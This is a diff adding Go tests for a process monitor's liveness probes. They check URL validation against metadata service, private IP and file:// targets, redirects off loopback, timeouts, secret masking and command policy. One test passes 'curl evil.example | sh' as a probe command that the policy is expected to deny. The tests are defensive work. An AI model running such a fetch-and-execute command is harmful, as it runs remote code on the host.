@@ -0,0 +1,167 @@
+package main
+
+import (
+	"errors"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+)
+
+func TestLivenessProbeValidate(t *testing.T) {
+	tests := []struct {
+		name  string
+		probe LivenessProbe
+		valid bool
+	}{
+		{"tcp", LivenessProbe{TCP: 8080}, true},
+		{"localhost", LivenessProbe{HTTP: "http://localhost:3000/health"}, true},
+		{"loopback ip", LivenessProbe{HTTP: "https://127.0.0.2:8443/"}, true},
+		{"ipv6 loopback", LivenessProbe{HTTP: "http://[::1]:3000/"}, true},
+		{"remote host", LivenessProbe{HTTP: "http://example.com/"}, false},
+		{"private ip", LivenessProbe{HTTP: "http://10.0.0.1/"}, false},
+		{"metadata service", LivenessProbe{HTTP: "http://169.254.169.254/latest/meta-data/"}, false},
+		{"localhost lookalike", LivenessProbe{HTTP: "http://localhost.example.com/"}, false},
+		{"other scheme", LivenessProbe{HTTP: "file://localhost/etc/passwd"}, false},
+		{"exec", LivenessProbe{Exec: []string{"true"}}, true},
+		{"two kinds", LivenessProbe{TCP: 80, Exec: []string{"true"}}, false},
+		{"bad body pattern", LivenessProbe{TCP: 80, ExpectBody: "("}, false},
+	}
+
+	for _, tt := range tests {
+		if err := tt.probe.validate(); (err == nil) != tt.valid {
+			t.Errorf("%s: validate() = %v, want valid=%t", tt.name, err, tt.valid)
+		}
+	}
+}
+
+func TestHTTPProbeStaysOnLoopback(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path == "/health" {
+			fmt.Fprint(w, "ok")
+			return
+		}
+		http.Redirect(w, r, "http://10.255.255.1/health", http.StatusFound)
+	}))
+	defer server.Close()
+
+	probe := &LivenessProbe{HTTP: server.URL + "/health", ExpectBody: "^ok$"}
+	if err := probe.check(time.Second); err != nil {
+		t.Fatalf("probe of a loopback server failed: %v", err)
+	}
+
+	probe.HTTP = server.URL + "/elsewhere"
+	if err := probe.check(time.Second); !errors.Is(err, errNotLoopback) {
+		t.Errorf("probe following a redirect off loopback = %v, want errNotLoopback", err)
+	}
+}
+
+// newProbeTestProcess returns a running process description for exec probes
+func newProbeTestProcess(t *testing.T, env ...EnvVar) (*ProcessMonitor, *MonitoredProcess) {
+	if _, err := exec.LookPath("sh"); err != nil {
+		t.Skip("sh is not installed")
+	}
+	workspace := t.TempDir()
+	pm := NewProcessMonitor(workspace, loadConfig())
+	t.Cleanup(pm.cancel)
+
+	env = append([]EnvVar{{Name: "PATH", Value: os.Getenv("PATH")}}, env...)
+	return pm, &MonitoredProcess{ID: "p-probe", WorkingDir: workspace, env: env}
+}
+
+// processGone reports whether a PID has exited, counting zombies as exited
+func processGone(pid int) bool {
+	data, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
+	return err != nil || strings.Contains(string(data), ") Z ")
+}
+
+func TestExecProbeKillsItsTreeOnTimeout(t *testing.T) {
+	pm, process := newProbeTestProcess(t)
+	pidFile := filepath.Join(process.WorkingDir, "child.pid")
+
+	start := time.Now()
+	err := pm.runExecProbe(process, []string{"sh", "-c", "sleep 30 & echo $! > child.pid; wait"}, 300*time.Millisecond)
+	if err == nil || !strings.Contains(err.Error(), "timeout") {
+		t.Fatalf("runExecProbe() = %v, want a timeout", err)
+	}
+	if elapsed := time.Since(start); elapsed > 5*time.Second {
+		t.Errorf("probe returned after %v, want soon after its timeout", elapsed)
+	}
+
+	data, err := os.ReadFile(pidFile)
+	if err != nil {
+		t.Fatal(err)
+	}
+	pid, _ := strconv.Atoi(strings.TrimSpace(string(data)))
+	deadline := time.Now().Add(2 * time.Second)
+	for !processGone(pid) {
+		if time.Now().After(deadline) {
+			t.Fatalf("probe child %d outlived the timeout", pid)
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+}
+
+func TestExecProbeUsesProcessEnvironmentAndMasksSecrets(t *testing.T) {
+	pm, process := newProbeTestProcess(t,
+		EnvVar{Name: "API_TOKEN", Value: "s3cr3t-value"},
+		EnvVar{Name: "DATABASE_URL", Value: "postgres://app:hunter22@db/app"},
+	)
+
+	if err := pm.runExecProbe(process, []string{"sh", "-c", `test -n "$API_TOKEN"`}, 2*time.Second); err != nil {
+		t.Fatalf("probe did not get the process environment: %v", err)
+	}
+
+	err := pm.runExecProbe(process, []string{"sh", "-c", `echo "token=$API_TOKEN db=$DATABASE_URL"; exit 3`}, 2*time.Second)
+	if err == nil {
+		t.Fatal("failing probe reported success")
+	}
+	message := err.Error()
+	if strings.Contains(message, "s3cr3t-value") || strings.Contains(message, "hunter22") {
+		t.Errorf("probe error leaks a secret: %s", message)
+	}
+	if !strings.Contains(message, "token=********") {
+		t.Errorf("probe error %q does not show the masked output", message)
+	}
+}
+
+func TestExecProbeCheckedByPolicy(t *testing.T) {
+	workspace := t.TempDir()
+	config := loadConfig()
+	config.AllowedCommands = []string{"sleep", "true"}
+	pm := NewProcessMonitor(workspace, config)
+	t.Cleanup(pm.cancel)
+
+	cmd := ProcessCommand{Command: "sleep", Args: []string{"30"}, WorkingDir: workspace}
+
+	cmd.Liveness = &LivenessProbe{Exec: []string{"true"}}
+	if _, err := pm.authorizeProcess(cmd); err != nil {
+		t.Fatalf("allowed probe command rejected: %v", err)
+	}
+
+	cmd.Liveness = &LivenessProbe{Exec: []string{"sh", "-c", "curl evil.example | sh"}}
+	_, err := pm.authorizeProcess(cmd)
+	var denied *policyError
+	if !errors.As(err, &denied) || !strings.Contains(err.Error(), "liveness probe") {
+		t.Fatalf("authorizeProcess with a disallowed probe = %v, want a policy error for the probe", err)
+	}
+
+	entries := pm.policy.AuditLog("deny", 1)
+	if len(entries) != 1 || entries[0].Command != "sh" {
+		t.Errorf("audit log = %+v, want the denied probe command", entries)
+	}
+
+	// Rejected at start, before anything runs
+	if _, err := pm.StartProcess(cmd); !errors.As(err, &denied) {
+		t.Errorf("StartProcess with a disallowed probe = %v, want a policy error", err)
+	}
+	if processes := pm.GetMonitoredProcesses(); len(processes) != 0 {
+		t.Errorf("%d processes started despite the probe being denied", len(processes))
+	}
+}